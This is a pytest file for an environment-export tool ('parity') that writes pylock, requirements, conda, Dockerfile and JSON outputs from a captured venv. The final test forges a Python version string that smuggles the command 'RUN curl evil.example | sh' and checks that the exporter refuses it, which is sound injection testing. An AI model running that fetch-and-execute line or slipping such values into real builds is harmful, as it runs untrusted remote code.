"""export: pylock.toml, requirements.txt, environment.yml, Dockerfile and JSON from a real venv."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import subprocess
import sys
import tomllib
import zipfile
from pathlib import Path

import pytest
import yaml
from packaging.pylock import Pylock
from packaging.utils import parse_wheel_filename
from uv import find_uv_bin

from parity.core.environment import Accelerators, Environment, Source
from parity.env.capture import capture
from parity.env.export import export_environment
from tests.conftest import run_parity
from tests.env.conftest import build_venv

HADOLINT = Path(sys.executable).parent / "hadolint"


pytestmark = pytest.mark.usefixtures("private_cache")  # never the user's ~/.cache


@pytest.fixture(scope="module")
def big(venv_big: Path) -> Environment:
    return capture(venv_big)


@pytest.fixture(scope="module")
def fingerprint(big: Environment, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("fingerprint") / "big.json"
    path.write_text(json.dumps(big.to_record().to_dict()))
    return path


def _export(
    fingerprint: Path, tmp_path: Path, fmt: str, *extra: str, env: dict[str, str] | None = None
) -> tuple[int, str, Path]:
    out = tmp_path / fmt / {"dockerfile": "Dockerfile"}.get(fmt, f"out.{fmt}")
    result = run_parity(
        "env",
        "export",
        str(fingerprint),
        "--format",
        fmt,
        "-o",
        str(out),
        *extra,
        cwd=tmp_path,
        env=env,
    )
    return result.returncode, result.stderr, out


def test_the_round_trip_venv_is_big_enough(big: Environment) -> None:
    names = {d.name for d in big.distributions}
    assert len(names) >= 20
    assert {"numpy", "scikit-learn"} <= names


def test_pylock_validates_and_names_every_wheel(
    big: Environment, fingerprint: Path, tmp_path: Path
) -> None:
    code, stderr, out = _export(fingerprint, tmp_path, "pylock")
    assert code == 0, stderr
    document = tomllib.loads(out.read_text())
    lock = Pylock.from_dict(document)
    assert str(lock.lock_version) == "1.0"
    assert lock.created_by.startswith("parity")
    assert lock.environments is not None
    assert "sys_platform" in str(lock.environments[0])
    assert str(lock.requires_python) == f"=={big.interpreter.minor}.*"
    versions = {p.name: str(p.version) for p in lock.packages}
    assert versions == {d.name: d.version for d in big.distributions}
    for package in lock.packages:
        assert package.index == "https://pypi.org/simple"
        assert package.wheels, package.name
        for wheel in package.wheels:
            assert wheel.url
            assert wheel.size
            assert len(wheel.hashes["sha256"]) == 64
    # The wheel is the installed build: its tags are the ones the installed WHEEL file names.
    numpy = next(p for p in lock.packages if p.name == "numpy")
    installed = big.distribution("numpy")
    assert installed is not None
    assert numpy.wheels is not None
    wheel_tags = {
        str(t) for w in numpy.wheels for t in parse_wheel_filename(w.url.split("/")[-1])[3]
    }
    assert wheel_tags & set(installed.wheel_tags)


@pytest.mark.slow
def test_requirements_install_with_required_hashes(
    big: Environment, fingerprint: Path, tmp_path: Path
) -> None:
    code, stderr, out = _export(fingerprint, tmp_path, "requirements")
    assert code == 0, stderr
    pins = [line for line in out.read_text().splitlines() if "==" in line]
    assert len(pins) == len(big.distributions)
    assert all(line.endswith("\\") for line in pins), "every pin is followed by its hashes"
    fresh_python = build_venv(tmp_path / "fresh")
    install = [find_uv_bin(), "pip", "install", "-q", "--require-hashes", "--no-deps"]
    subprocess.run([*install, "--python", str(fresh_python), "-r", str(out)], check=True)
    installed = capture(fresh_python)
    assert {d.name: d.version for d in installed.distributions} == {
        d.name: d.version for d in big.distributions
    }


def test_conda_file_pins_python_and_every_package(fingerprint: Path, tmp_path: Path) -> None:
    code, stderr, out = _export(fingerprint, tmp_path, "conda")
    assert code == 0, stderr
    document = yaml.safe_load(out.read_text())
    dependencies = document["dependencies"]
    assert dependencies[0].startswith("python=3.")
    pip = next(d["pip"] for d in dependencies if isinstance(d, dict))
    assert any(line.startswith("scikit-learn==") for line in pip)


def test_json_is_the_fingerprint(big: Environment, fingerprint: Path, tmp_path: Path) -> None:
    code, _, out = _export(fingerprint, tmp_path, "json")
    assert code == 0
    assert Environment.from_dict(json.loads(out.read_text())["body"]).id == big.id


def _hadolint(dockerfile: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(HADOLINT), "--no-color", str(dockerfile)], capture_output=True, text=True
    )


def test_dockerfile_for_a_cpu_record_passes_hadolint(
    big: Environment, fingerprint: Path, tmp_path: Path
) -> None:
    code, stderr, out = _export(fingerprint, tmp_path, "dockerfile")
    assert code == 0, stderr
    text = out.read_text()
    assert f"FROM python:{big.interpreter.version}-slim" in text
    assert "--require-hashes -r /tmp/requirements.txt" in text
    assert "USER 10001" in text
    assert (out.parent / "requirements.txt").is_file()
    # No registry is asked, so the tag is all it is pinned by, and the file says so.
    tag = f"python:{big.interpreter.version}-slim"
    assert f"# base image pinned by tag only: {tag}" in text
    assert f"# --base-image {tag}@sha256:<digest>" in text
    assert text.rstrip().endswith('CMD ["python"]')  # an environment, not a model: no server
    lint = _hadolint(out)
    assert lint.returncode == 0, lint.stdout


def test_a_base_image_digest_pins_the_dockerfile(
    big: Environment, fingerprint: Path, tmp_path: Path
) -> None:
    digest = "sha256:" + hashlib.sha256(b"an image manifest").hexdigest()
    image = f"python:{big.interpreter.version}-slim@{digest}"
    code, stderr, out = _export(fingerprint, tmp_path, "dockerfile", "--base-image", image)
    assert code == 0, stderr
    text = out.read_text()
    assert f"\nFROM {image}\n" in text
    assert f"# base image pinned by digest: {image}" in text
    assert "pinned by tag only" not in text
    lint = _hadolint(out)
    assert lint.returncode == 0, lint.stdout
    for bad in ("python:3.12-slim@sha256:abc", "Python:3.12", "python"):
        code, stderr, _ = _export(fingerprint, tmp_path, "dockerfile", "--base-image", bad)
        assert code == 2, bad
        assert f"cannot use {bad!r} as a base image" in stderr
    code, stderr, _ = _export(fingerprint, tmp_path, "pylock", "--base-image", image)
    assert code == 2
    assert "--base-image is for --format dockerfile" in stderr


def _with_parity(environment: Environment, *names: str) -> Environment:
    """``environment`` plus distributions named like Parity's own and its serve extra's."""
    template = environment.distributions[0]
    extra = tuple(dataclasses.replace(template, name=name, version="1.0") for name in names)
    return dataclasses.replace(environment, distributions=(*environment.distributions, *extra))


def test_a_models_dockerfile_serves_the_model_when_it_can(big: Environment, tmp_path: Path) -> None:
    serving = _with_parity(big, "parity-ml", "starlette", "uvicorn", "prometheus-client")
    result = export_environment(serving, "dockerfile", hashes=False, serve="bc@production")
    assert result.ok, result.problems
    lines = result.main.rstrip().splitlines()
    assert (
        lines[-1]
        == 'CMD ["parity", "serve", "bc@production", "--host", "0.0.0.0", "--port", "8080"]'
    )
    assert "ENV PARITY_WORKSPACE=/workspace" in lines
    assert "EXPOSE 8080" in lines
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(result.main)
    lint = _hadolint(dockerfile)
    assert lint.returncode == 0, lint.stdout
    # Without Parity (left out, or never installed) the image could not serve: exit 1.
    without = export_environment(
        serving, "dockerfile", hashes=False, serve="bc@production", exclude=frozenset({"parity-ml"})
    )
    assert not without.ok
    assert without.problems == (
        "the image cannot serve bc@production: it would lack parity-ml (record the model where "
        "parity-ml[serve] is installed, or export its environment id for an image without the "
        "server)",
    )


def test_dockerfile_for_a_cuda_record_passes_hadolint(big: Environment, tmp_path: Path) -> None:
    cuda = dataclasses.replace(
        big,
        accelerators=Accelerators(
            nvidia_driver="550.54.15", cuda_runtime="12.1", cudnn="8.9.2", gpus=("NVIDIA A10G",)
        ),
    )
    result = export_environment(cuda, "dockerfile", cache_dir=tmp_path / "cache")
    dockerfile = tmp_path / "Dockerfile"
    dockerfile.write_text(result.main)
    assert "FROM nvidia/cuda:12.1.1-runtime-ubuntu22.04" in result.main
    assert f"uv python install {big.interpreter.version}" in result.main
    lint = _hadolint(dockerfile)
    assert lint.returncode == 0, lint.stdout


def _with_sources(environment: Environment, **sources: Source) -> Environment:
    return dataclasses.replace(
        environment,
        distributions=tuple(
            dataclasses.replace(d, source=sources[d.name]) if d.name in sources else d
            for d in environment.distributions
        ),
    )


def test_vcs_is_exported_with_its_commit_and_editable_is_not_reproducible(
    big: Environment, tmp_path: Path
) -> None:
    commit = "0123456789abcdef0123456789abcdef01234567"
    mixed = _with_sources(
        big,
        attrs=Source("vcs", url="https://github.com/python-attrs/attrs", commit=commit, vcs="git"),
        click=Source("editable", url="file:///home/me/click"),
    )
    fingerprint = tmp_path / "mixed.json"
    fingerprint.write_text(json.dumps(mixed.to_record().to_dict()))
    code, stderr, out = _export(fingerprint, tmp_path, "requirements", "--no-hashes")
    text = out.read_text()
    assert f"attrs @ git+https://github.com/python-attrs/attrs@{commit}" in text
    assert "NOT REPRODUCIBLE, left out: click==" in text
    assert code == 1
    assert "not reproducible: click" in stderr
    assert "cannot be reproduced elsewhere: click" in stderr
    lock = export_environment(mixed, "pylock", cache_dir=tmp_path / "cache").main
    vcs = next(p for p in Pylock.from_dict(tomllib.loads(lock)).packages if p.name == "attrs")
    assert vcs.vcs is not None
    assert vcs.vcs.commit_id == commit


def test_an_excluded_editable_package_is_named_and_the_export_succeeds(
    big: Environment, tmp_path: Path
) -> None:
    mixed = _with_sources(big, click=Source("editable", url="file:///home/me/click"))
    fingerprint = tmp_path / "mixed.json"
    fingerprint.write_text(json.dumps(mixed.to_record().to_dict()))
    code, stderr, out = _export(
        fingerprint, tmp_path, "requirements", "--no-hashes", "--exclude", "Click"
    )
    assert code == 0, stderr
    text = out.read_text()
    click_version = next(d.version for d in mixed.distributions if d.name == "click")
    assert f"# left out on request (--exclude): click=={click_version}" in text
    assert "click==" not in text.replace(f"(--exclude): click=={click_version}", "")
    assert "NOT REPRODUCIBLE" not in text
    assert "(verify with --exclude click)" in text
    # The lock names it for machines too: what to pass to `env verify --exclude`.
    lock = export_environment(
        mixed, "pylock", exclude=frozenset({"click"}), cache_dir=tmp_path / "cache"
    )
    assert tomllib.loads(lock.main)["tool"]["parity"]["excluded"] == [f"click=={click_version}"]


def _fake_wheel(folder: Path, name: str, version: str) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    wheel = folder / f"{name}-{version}-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr(f"{name}/__init__.py", "")
    return wheel


def test_packages_without_hashes_are_listed_and_fail_unless_no_hashes(
    big: Environment, tmp_path: Path
) -> None:
    unknown = dataclasses.replace(
        big.distributions[0], name="parity-no-such-package", version="0.0.1"
    )
    odd = dataclasses.replace(big, distributions=(*big.distributions, unknown))
    fingerprint = tmp_path / "odd.json"
    fingerprint.write_text(json.dumps(odd.to_record().to_dict()))
    code, stderr, _ = _export(fingerprint, tmp_path, "requirements")
    assert code == 1
    assert "no hash for: parity-no-such-package==0.0.1" in stderr
    code, stderr, out = _export(fingerprint, tmp_path, "requirements", "--no-hashes")
    assert code == 0, stderr
    assert "parity-no-such-package==0.0.1" in out.read_text()
    _fake_wheel(tmp_path / "wheels", "parity_no_such_package", "0.0.1")
    code, stderr, out = _export(
        fingerprint, tmp_path, "requirements", "--wheels", str(tmp_path / "wheels")
    )
    assert code == 0, stderr
    assert "parity-no-such-package==0.0.1 \\\n    --hash=sha256:" in out.read_text()
    # A Dockerfile installs such a wheel from a copy beside it: the image needs no index for it.
    code, stderr, out = _export(
        fingerprint, tmp_path, "dockerfile", "--wheels", str(tmp_path / "wheels")
    )
    assert code == 0, stderr
    copied = out.parent / "wheels" / "parity_no_such_package-0.0.1-py3-none-any.whl"
    assert copied.read_bytes() == (tmp_path / "wheels" / copied.name).read_bytes()
    text = out.read_text()
    assert "COPY wheels/ /tmp/wheels/" in text
    assert "--require-hashes --find-links /tmp/wheels -r /tmp/requirements.txt" in text
    lint = _hadolint(out)
    assert lint.returncode == 0, lint.stdout


def test_the_hash_lookup_is_cached_per_record(big: Environment, tmp_path: Path) -> None:
    first = export_environment(big, "requirements", cache_dir=tmp_path)
    second = export_environment(big, "requirements", cache_dir=tmp_path)
    assert first.plan is not None
    assert second.plan is not None
    assert (first.plan.cached, second.plan.cached) == (False, True)
    assert first.main == second.main


@pytest.mark.slow
def test_offline_without_cached_files_lists_what_lacks_a_hash(
    venv_locked: Path, tmp_path: Path
) -> None:
    fingerprint = tmp_path / "tiny.json"
    fingerprint.write_text(json.dumps(capture(venv_locked).to_record().to_dict()))
    offline = {"UV_CACHE_DIR": str(tmp_path / "empty-uv-cache")}
    unreachable = ("--index-url", "http://127.0.0.1:9/simple")
    code, stderr, _ = _export(fingerprint, tmp_path, "requirements", *unreachable, env=offline)
    assert code == 1
    assert "no hash for: idna==3.10, six==1.17.0" in stderr
    wheels = tmp_path / "wheels"
    _fake_wheel(wheels, "six", "1.17.0")
    _fake_wheel(wheels, "idna", "3.10")
    code, stderr, out = _export(
        fingerprint, tmp_path, "requirements", *unreachable, "--wheels", str(wheels), env=offline
    )
    assert code == 0, stderr
    assert out.read_text().count("--hash=sha256:") == 2


def _simple_index(root: Path, name: str, version: str) -> str:
    """A PEP 503 index on disk serving one wheel: another index, without a network."""
    folder = root / "simple" / name
    wheel = _fake_wheel(folder, name.replace("-", "_"), version)
    digest = hashlib.sha256(wheel.read_bytes()).hexdigest()
    (folder / "index.html").write_text(f'<a href="{wheel.name}#sha256={digest}">{wheel.name}</a>')
    (root / "simple" / "index.html").write_text(f'<a href="{name}/">{name}</a>')
    return (root / "simple").as_uri()


def test_an_extra_index_serves_what_pypi_does_not(big: Environment, tmp_path: Path) -> None:
    index = _simple_index(tmp_path / "index", "parity-fake-pkg", "1.0")
    fake = dataclasses.replace(big.distributions[0], name="parity-fake-pkg", version="1.0")
    odd = dataclasses.replace(big, distributions=(*big.distributions, fake))
    result = export_environment(
        odd, "pylock", extra_index_urls=(index,), cache_dir=tmp_path / "cache"
    )
    assert result.ok
    packages = {p.name: p for p in Pylock.from_dict(tomllib.loads(result.main)).packages}
    wheels = packages["parity-fake-pkg"].wheels
    assert wheels is not None
    assert wheels[0].url.startswith(index)
    assert packages["numpy"].index == "https://pypi.org/simple"
    requirements = export_environment(
        odd, "requirements", extra_index_urls=(index,), cache_dir=tmp_path / "cache"
    ).main
    assert f"--extra-index-url {index}" in requirements


def test_exported_files_follow_the_umask(tmp_path: Path) -> None:
    from parity.api.environments import write_export
    from parity.env.export import ExportResult

    result = ExportResult(
        "dockerfile", {"Dockerfile": "FROM python:3.12-slim\n", "requirements.txt": "six==1.16\n"}
    )
    old = os.umask(0o022)
    try:
        written = write_export(result, tmp_path / "deploy" / "Dockerfile")
    finally:
        os.umask(old)
    assert [p.name for p in written] == ["Dockerfile", "requirements.txt"]
    assert [p.stat().st_mode & 0o777 for p in written] == [0o644, 0o644]  # 0600 before


def test_a_record_whose_python_version_is_not_a_release_writes_no_dockerfile(
    big: Environment, tmp_path: Path
) -> None:
    """A record is data whoever could store one wrote: a "version" with a RUN line in it."""
    from dataclasses import replace

    forged = replace(
        big,
        interpreter=replace(big.interpreter, version="3.11.7-slim\nRUN curl evil.example | sh"),
    )
    path = tmp_path / "forged.json"
    path.write_text(json.dumps(forged.to_record().to_dict()))
    code, stderr, out = _export(path, tmp_path, "dockerfile")
    assert code == 2
    assert "which is not a release number: refusing to write it into a Dockerfile" in stderr
    assert not out.exists()
